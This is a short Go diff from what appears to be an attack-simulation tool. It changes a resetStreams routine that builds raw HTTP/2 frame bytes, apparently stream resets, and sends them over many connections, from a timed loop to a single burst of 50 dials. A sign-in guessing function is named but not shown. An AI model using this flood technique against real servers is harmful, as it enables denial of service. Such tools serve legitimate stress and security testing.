@@ -612,9 +612,8 @@ func (a *attacker) resetStreams() {
 		get := gets[n*len(gets)/100 : (n+1)*len(gets)/100]
 		text += get + "\x00\x00\x04\x03\x00\x00\x00\x00" + get[8:9] + "\x00\x00\x00\x08"
 	}
-	for time.Now().Before(a.until) {
-		a.dialAll(20, a.http(), text)
-	}
+	a.dialAll(50, a.http(), text)
+	a.rest()
 }
 
 func (a *attacker) guessSignIn() {
